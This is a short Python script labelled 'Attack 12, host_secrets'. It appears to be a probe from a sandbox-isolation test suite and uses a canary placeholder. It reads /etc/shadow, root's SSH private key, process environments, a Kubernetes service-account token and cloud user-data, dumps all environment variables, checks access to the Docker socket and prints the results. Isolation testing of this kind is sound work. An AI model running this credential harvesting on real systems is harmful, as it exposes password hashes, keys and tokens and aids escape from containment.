# Attack 12, host_secrets: read /etc/shadow, ~/.ssh, /proc/1/environ, docker.sock, host env.
import json, os, socket
def rd(p):
    try:
        with open(p, 'rb') as f:
            return f.read(1 << 16).decode('latin-1')
    except Exception as e:
        return 'ERR ' + type(e).__name__
out = {p: rd(p) for p in ['/etc/shadow', '/root/.ssh/id_rsa', '/root/.ssh/authorized_keys',
       '/proc/1/environ', '/proc/self/mountinfo', '/proc/1/cmdline', '@CANARY_FILE@',
       '/sys/class/dmi/id/product_uuid', '/var/lib/cloud/instance/user-data.txt',
       '/run/secrets/kubernetes.io/serviceaccount/token']}
out['env'] = dict(os.environ)
for sock in ('/var/run/docker.sock', '/run/docker.sock'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(sock); out['connect ' + sock] = 'CONNECTED'
    except OSError as e:
        out['connect ' + sock] = type(e).__name__
print(json.dumps(out))
